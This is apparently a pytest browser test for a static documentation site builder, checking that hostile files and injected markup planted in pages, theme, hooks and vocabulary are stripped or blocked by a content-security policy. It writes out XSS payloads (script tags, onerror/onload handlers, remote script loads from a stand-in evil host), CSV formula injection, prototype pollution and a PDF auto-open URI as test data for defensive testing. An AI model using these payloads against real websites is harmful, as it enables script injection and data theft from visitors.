"""A file of each kind that attacks, in each place that files come from: none runs, asks or lacks the policy.

One instance has them all: strangers' files among the pages, the guide, the reports and the settings of
the casebook, and an owner's theme, hook and plugin that write the same kinds into the site. A browser
then opens every file that leaves the build, whatever it is.
"""

from __future__ import annotations

import gzip
import re
import shutil
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Error
from screenshots import served

from casebook.site.policy import content_policy
from casebook.vocabulary import FOLDER as FAZHI
from tests.helpers.cases import CASES
from tests.helpers.sites import build_despite_warnings, make_project

from .corpus import EVIL, TRAP, attacks

pytestmark = pytest.mark.slow

RUNS = (
    f'<script>window.pwned()</script><script src="https://{EVIL}/a.js"></script>'
    f'<img src="https://{EVIL}/a.png" onerror="window.pwned()"><body onload="window.pwned()">'
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="https://{EVIL}/a.png"/>'
    "<script>pwned()</script></svg>"
)
XML = f'<?xml-stylesheet href="https://{EVIL}/a.css"?><a><s:script xmlns:s="http://www.w3.org/1999/xhtml">pwned()</s:script></a>'
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://evil.example/a)>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)
KINDS: dict[str, bytes] = {
    ".html": RUNS.encode(),
    ".htm": RUNS.encode("utf-16"),
    ".shtml": RUNS.encode(),
    ".shtm": RUNS.encode(),
    ".ehtml": RUNS.encode(),
    ".xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><head/>{RUNS}</html>'.encode(),
    ".svg": SVG.encode(),
    ".svgz": gzip.compress(SVG.encode()),
    ".xml": XML.encode(),
    ".xsd": XML.encode(),
    ".js": b"window.pwned()",
    ".mjs": b"window.pwned()",
    ".css": f"@import url(https://{EVIL}/a.css);body{{background:url(https://{EVIL}/b.png)}}".encode(),
    ".json": b'{"__proto__": {"polluted": 1}, "a": "</script><script>window.pwned()</script>"}',
    ".csv": b'=HYPERLINK("https://evil.example"),<script>pwned()</script>\n',
    ".txt": RUNS.encode(),
    ".pdf": PDF,
    ".docx": b"PK\x03\x04" + RUNS.encode(),
    ".bin": RUNS.encode(),
    "": RUNS.encode(),
    ".php": RUNS.encode(),
    ".mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + RUNS.encode(),
    ".webmanifest": b'{"start_url": "https://evil.example/"}',
    ".png": b"\x89PNG\r\n\x1a\n" + RUNS.encode(),
}
STRANGERS = ("docs", "docs/guide", "docs/assets", "docs/assets/search", "docs/cases", "docs/data", "docs/admin", "docs/stylesheets")  # fmt: skip
OWNERS = ("theme", "theme/assets", "theme/partials-of-mine", "written", "written/cases", "added")
"""Folders of a theme, of what a hook writes after the build (`written`), of what it adds to it."""
_OF_OWNERS = ("assets", "partials-of-mine", "written", "written/cases", "added")
_OF_THE_THEME = ("assets/", "admin/vendor/", "search/data/")
_FIRST_POLICY = """() => {
  const first = document.head && document.head.querySelector("meta[http-equiv]");
  return first ? `${first.httpEquiv === "Content-Security-Policy" ? first.content : ""}` : "";
}"""
HOOK = """
from pathlib import Path
from mkdocs.structure.files import File
KINDS = {kinds!r}
def on_files(files, config):
    for number, data in enumerate(KINDS.values()):
        suffix = list(KINDS)[number]
        files.append(File.generated(config, f"added/hostile{{suffix}}", content=data))
    page = File.generated(config, "added/page.md", content="# 甲\\n\\n" + {runs!r})
    files.append(page)
    return files
def on_page_content(html, page, config, files):
    return html + {runs!r} if page.file.src_uri == "guide/about.md" else html
def on_post_build(config):
    for folder in ("written", "written/cases"):
        for suffix, data in KINDS.items():
            path = Path(config.site_dir, folder, f"hostile{{suffix}}")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
"""
IMG = f'<img src="https://{EVIL}/a.png" onerror="pwned()">'


def _put(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for suffix, data in KINDS.items():
        (folder / f"hostile{suffix}").write_bytes(data)


def _name_attacks(folder: Path) -> None:
    """Give the first name of each list of a vocabulary mark-up that runs."""
    for path in sorted(folder.glob("*.yml")):
        text = path.read_text(encoding="utf-8")
        name = re.search(r"(?m)^(  name: )([^\"'#\n]+?) *$", text)
        if name:
            attacked = f"{text[: name.start()]}{name[1]}'{name[2]}{IMG}'{text[name.end() :]}"
            path.write_text(attacked, encoding="utf-8")


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    folder = make_project(tmp_path_factory.mktemp("everywhere") / "project", CASES[:3])
    settings = folder / "mkdocs.yml"
    text = settings.read_text(encoding="utf-8")
    options = "{checks: reading, docs: own, vocabulary: vocabulary}"
    text = text.replace("{checks: reading}", options)
    text = text.replace("theme:\n", "hooks: [hook.py]\ntheme:\n  custom_dir: theme\n", 1)
    settings.write_text(text, encoding="utf-8")
    shutil.copytree(FAZHI, folder / "vocabulary")
    _name_attacks(folder / "vocabulary")
    (folder / "hook.py").write_text(HOOK.format(kinds=KINDS, runs=RUNS), encoding="utf-8")
    for place in (*STRANGERS, *(place for place in OWNERS if place.startswith("theme"))):
        _put(folder / place)
    for attack in attacks("pages", "guide", "places"):
        if attack.code in ("", "site-file-kind", "site-file-name", "html-script") and (
            attack.path.stem != "link-folder"
        ):
            attack.put(folder)
    (folder / "docs/guide/page.md").write_text(f"# 甲{IMG}\n\n{RUNS}\n", encoding="utf-8")
    (folder / "withdrawn.yml").write_text(
        f"- {{id: gone-1, reason: '{IMG}', date: 2024-01-01}}\n", encoding="utf-8"
    )
    (folder / "redirects.yml").write_text(
        "- {from: guide/old.html, to: guide/readers.html}\n", encoding="utf-8"
    )
    return folder


@pytest.fixture(scope="module")
def site(project):
    return build_despite_warnings(project)


def _files(site: Path) -> list[str]:
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file())


def test_strangers_publish_no_file_and_owners_none_that_runs(site):
    """Of the folder of pages, only pages and pictures; of the theme and the hook, all but active XML."""
    published = [Path(name) for name in _files(site) if Path(name).name.startswith("hostile")]
    assert {path.parent.as_posix() for path in published} == {".", *_OF_OWNERS}
    active = {".svg", ".svgz", ".xml", ".xsd", ".xhtml", ".php", ".bin", ""}
    assert {path.suffix for path in published} == KINDS.keys() - active


def test_names_of_the_vocabulary_are_shown_as_text(site):
    """They are trusted; still, what reads like mark-up is none."""
    pages = [path.read_text(encoding="utf-8") for path in site.rglob("*.html")]
    shown = [html for html in pages if "&lt;img" in html]
    assert len(shown) > 20
    written = ("added/", "written/", "theme/")
    ours = [
        path
        for path in site.rglob("*.html")
        if IMG in path.read_text(encoding="utf-8")
        and not path.relative_to(site).as_posix().startswith(written)
    ]
    assert ours == []


@pytest.mark.parametrize("way", ["disk", "server"])
def test_no_file_of_the_site_runs_or_asks_anything(site, browser, way):
    """Every file but the scripts and pictures of the theme; HTML, however it is named, has the policy."""
    names = [name for name in _files(site) if not name.startswith(_OF_THE_THEME)]
    names += [name for name in _files(site) if "hostile" in name and name not in names]
    assert len(names) > 150
    assert {"404.html", "admin/index.html", "index.html", "search/index.html"} <= {*names}
    asked: list[str] = []
    documents = 0

    def answer(route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="")

    with served(site) as address, browser.tab(TRAP, accept_downloads=True) as page:
        page.context.route(f"https://{EVIL}/**", answer)
        for name in names:
            with suppress(Error):  # a file that is handed out instead of shown
                page.goto((site.as_uri() + "/" if way == "disk" else address) + quote(name))
            assert page.evaluate("window.ran") is None, name
            if page.evaluate("document.contentType") == "text/html":
                documents += 1
                policy = page.evaluate(_FIRST_POLICY)
                if name == "admin/index.html":
                    assert "script-src 'self'" in policy
                else:
                    assert policy == content_policy(), name
        browser.complaints()  # what the policy refused is what was tried
    assert documents > 100
    assert asked == []
